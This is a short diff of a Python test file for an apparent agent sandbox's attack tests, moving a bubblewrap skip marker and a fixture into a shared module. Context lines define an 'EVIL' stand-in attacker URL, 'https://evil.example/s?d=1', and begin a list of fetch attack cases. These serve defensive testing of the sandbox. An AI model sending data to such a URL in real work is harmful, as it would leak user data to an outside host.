@@ -3,7 +3,6 @@
 from __future__ import annotations
 
 import os
-from collections.abc import Iterator
 from dataclasses import replace
 from pathlib import Path
 
@@ -19,23 +18,9 @@ from daiku.tools.sandbox.places import path_places
 from daiku.tools.shell.lines import Where
 from daiku.workspace import programs
 from tests.attacks.places import CANARY
-from tests.attacks.scene import LEVELS, Call, Scene, call, scene, shell
+from tests.attacks.scene import LEVELS, Call, Scene, call, needs_bubblewrap, shell
 from tests.cases import for_each
 from tests.eval.playing import make_task
-
-needs_bubblewrap = [
-    pytest.mark.slow,  # real sandboxes
-    # The sandbox needs bubblewrap, which `npm test` installs but not every container can run.
-    pytest.mark.skipif(not bubblewrap(), reason="no working bubblewrap here"),
-]
-
-
-@pytest.fixture
-def place(monkeypatch: pytest.MonkeyPatch) -> Iterator[Scene]:
-    with scene() as made:
-        monkeypatch.setenv("HOME", str(made.home))
-        yield made
-
 
 EVIL = "https://evil.example/s?d=1"
 FETCHES = [
